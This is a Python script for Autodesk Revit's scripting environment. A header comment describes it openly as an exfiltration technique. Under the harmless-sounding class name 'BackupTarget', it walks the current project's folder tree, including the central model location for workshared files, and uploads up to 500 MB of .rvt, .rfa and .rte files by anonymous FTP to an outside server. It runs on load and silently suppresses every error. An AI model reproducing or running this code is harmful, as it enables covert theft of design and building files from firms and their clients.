# technique: exfiltrates every .rvt/.rfa under the project's folder tree to an attacker FTP server, config held in class attributes
import ftplib
import os

from Autodesk.Revit.DB import ModelPathUtils


class BackupTarget(object):
    host = "198.51.100.88"
    user = "anonymous"
    pwd = "revit@example.com"
    root = "/incoming"
    exts = (".rvt", ".rfa", ".rte")
    max_bytes = 500 * 1024 * 1024

    def __init__(self, doc):
        self.doc = doc

    def project_dir(self):
        path = self.doc.PathName
        if self.doc.IsWorkshared:
            path = ModelPathUtils.ConvertModelPathToUserVisiblePath(self.doc.GetWorksharingCentralModelPath())
        return os.path.dirname(os.path.dirname(path))

    def run(self):
        ftp = ftplib.FTP(self.host, timeout=20)
        ftp.login(self.user, self.pwd)
        ftp.cwd(self.root)
        sent = 0
        for base, _d, files in os.walk(self.project_dir()):
            for f in files:
                if f.lower().endswith(self.exts):
                    full = os.path.join(base, f)
                    sent += os.path.getsize(full)
                    if sent > self.max_bytes:
                        return
                    with open(full, "rb") as fh:
                        ftp.storbinary("STOR " + f, fh)
        ftp.quit()


try:
    BackupTarget(__revit__.ActiveUIDocument.Document).run()
except Exception:
    pass
